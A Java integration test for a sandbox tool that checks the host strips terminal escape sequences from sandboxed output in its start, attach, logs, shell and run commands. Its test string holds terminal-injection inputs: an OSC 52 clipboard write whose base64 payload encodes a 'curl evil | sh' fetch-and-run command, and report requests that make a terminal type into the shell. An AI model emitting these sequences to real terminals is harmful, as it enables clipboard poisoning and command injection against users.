package dev.claudecage.it;

import dev.claudecage.host.UntrustedText;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

import static dev.claudecage.it.CageHarness.ROOTFS;
import static dev.claudecage.it.CageHarness.cage;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The host side never prints the cage's bytes raw to a terminal (issue 14). The cage prints an
 * OSC 52 clipboard write, a cursor position report request (CSI 6 n: the terminal types the answer
 * in), a window title and a title report request (CSI 21 t: the terminal types the title in, into
 * whatever reads it, the user's shell after {@code logs}), with text and a colour around them. What
 * the user's terminal (a real pseudo-terminal) receives from start, attach, logs, shell and run holds
 * the text and the colour and none of those. Positive controls: the session's log holds them as the
 * cage wrote them, and {@code --raw-terminal} shows them, so a raw pass-through would be caught.
 */
@ExtendWith(CleanSessionHost.class)
class TerminalOutputIT {

    private static final Duration SHORT = Duration.ofSeconds(30);
    private static final String SESSION = "it-term";
    /** For sh's printf: text and a colour around the four sequences. */
    private static final String PRINTF = "A\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007B\\033[6nC\\033]2;evil-title\\007"
            + "\\033[21tD\\033[1;31mred\\033[0m\\n";
    private static final List<String> ATTACKS = List.of("\u001b]52;c;", "\u001b[6n", "\u001b]2;evil-title", "\u001b[21t");
    private static final String SHOWN = "ABCD\u001b[1;31mred\u001b[0m";
    private static final String DROPPED = "dropped 4 terminal control sequence(s) from the cage's output that could act "
            + "on your terminal (1 clipboard, 2 report request, 1 window title)";

    private static void assertFiltered(String received, String where) {
        for (String attack : ATTACKS) {
            assertFalse(received.contains(attack), where + " passed " + UntrustedText.escape(attack)
                    + " to the user's terminal: " + UntrustedText.escape(received));
        }
        assertTrue(received.contains(SHOWN), where + " lost the text or its colour: " + UntrustedText.escape(received));
    }

    private static void assertRaw(String received, String where) {
        for (String attack : ATTACKS) {
            assertTrue(received.contains(attack), where + " did not pass " + UntrustedText.escape(attack) + ": "
                    + UntrustedText.escape(received));
        }
    }

    private static String onATerminal(List<String> args) throws InterruptedException {
        try (CageHarness.Terminal terminal = CageHarness.terminal(args, 30, 100)) {
            assertEquals(0, terminal.awaitExit(SHORT), UntrustedText.escape(terminal.screen()));
            return terminal.screen();
        }
    }

    @Test
    void attack_startAttachLogsAndShellShowTheCagesTextWithoutItsClipboardWriteOrReportRequests(@TempDir Path folder)
            throws Exception {
        String command = "printf '" + PRINTF + "'; echo ready; exec sleep 300";
        try (CageHarness.Terminal terminal = CageHarness.terminal(List.of("start", "--name", SESSION, "--rootfs",
                ROOTFS.toString(), "--network", "none", "--", "sh", "-c", command), 30, 100)) {
            terminal.await("ready", SHORT);
            assertFiltered(terminal.screen(), "start (attached)");
            terminal.type("\u0010\u0011");
            terminal.await("[detached from " + SESSION, SHORT);
            terminal.await(DROPPED, SHORT);
            assertEquals(0, terminal.awaitExit(SHORT), UntrustedText.escape(terminal.screen()));
        }
        // Positive control: the cage did write them, and the session keeps them as written.
        String log = Files.readString(CageHarness.SESSION_DATA.resolve(SESSION).resolve("logs/session.log"),
                StandardCharsets.ISO_8859_1);
        assertRaw(log, "the session's log");

        // attach replays the recent output through the filter.
        try (CageHarness.Terminal terminal = CageHarness.terminal(List.of("attach", SESSION), 30, 100)) {
            terminal.await("ready", SHORT);
            terminal.type("\u0010\u0011");
            terminal.await(DROPPED, SHORT);
            assertEquals(0, terminal.awaitExit(SHORT), UntrustedText.escape(terminal.screen()));
            assertFiltered(terminal.screen(), "attach");
        }

        // logs: to a terminal and to a pipe filtered; to a file as written.
        String logs = onATerminal(List.of("logs", SESSION));
        assertFiltered(logs, "logs on a terminal");
        assertTrue(logs.contains(DROPPED), UntrustedText.escape(logs));
        CageHarness.Result piped = cage("logs", SESSION);
        assertFiltered(piped.stdout(), "logs into a pipe");
        assertTrue(piped.stderr().contains(DROPPED), piped.toString());
        Path file = folder.resolve("session.log");
        try (CageHarness.Terminal terminal = CageHarness.terminal(List.of("logs", SESSION), 30, 100, "> " + file)) {
            assertEquals(0, terminal.awaitExit(SHORT), terminal.screen());
        }
        assertRaw(Files.readString(file, StandardCharsets.ISO_8859_1), "logs into a file");
        assertRaw(onATerminal(List.of("logs", "--raw-terminal", SESSION)), "logs --raw-terminal on a terminal");

        // shell: a command of the user's in the same cage, on the user's terminal.
        String shell = onATerminal(List.of("shell", SESSION, "--", "printf", PRINTF));
        assertFiltered(shell, "shell on a terminal");
        assertTrue(shell.contains(DROPPED), UntrustedText.escape(shell));
        assertRaw(onATerminal(List.of("shell", "--raw-terminal", SESSION, "--", "printf", PRINTF)),
                "shell --raw-terminal on a terminal");
    }

    @Test
    void attack_runShowsTheCagesTextWithoutItsClipboardWriteOrReportRequestsAndGivesItNoDescriptorOfTheTerminal()
            throws Exception {
        List<String> run = List.of("run", "--rootfs", ROOTFS.toString(), "--network", "none", "--");
        String fds = "for fd in 0 1 2; do echo fd$fd=$(readlink /proc/$$/fd/$fd); done; printf '" + PRINTF + "'";
        // With a terminal of its own: runc copies the cage's pseudo-terminal to its stdout, which comes
        // through the filter. The cage's descriptors are that pseudo-terminal (which shows that the probe
        // sees a terminal where there is one).
        String withTerminal = onATerminal(concat(run, "sh", "-c", fds));
        assertFiltered(withTerminal, "run on a terminal");
        assertTrue(withTerminal.contains(DROPPED), UntrustedText.escape(withTerminal));
        assertTrue(withTerminal.contains("fd1=/dev/pts/0"), UntrustedText.escape(withTerminal));

        // Without one (stdin is not a terminal): stdout and stderr are pipes, never the user's terminal.
        try (CageHarness.Terminal terminal = CageHarness.terminal(concat(run, "sh", "-c", fds), 30, 100, "< /dev/null")) {
            assertEquals(0, terminal.awaitExit(SHORT), UntrustedText.escape(terminal.screen()));
            String screen = terminal.screen();
            assertFiltered(screen, "run without a terminal of its own");
            assertTrue(screen.contains("fd1=pipe:[") && screen.contains("fd2=pipe:["), UntrustedText.escape(screen));
        }

        // Positive control: --raw-terminal passes them.
        List<String> raw = new ArrayList<>(List.of("run", "--raw-terminal"));
        raw.addAll(concat(run.subList(1, run.size()), "sh", "-c", "printf '" + PRINTF + "'"));
        assertRaw(onATerminal(raw), "run --raw-terminal on a terminal");
    }

    private static List<String> concat(List<String> first, String... more) {
        List<String> all = new ArrayList<>(first);
        all.addAll(List.of(more));
        return all;
    }
}
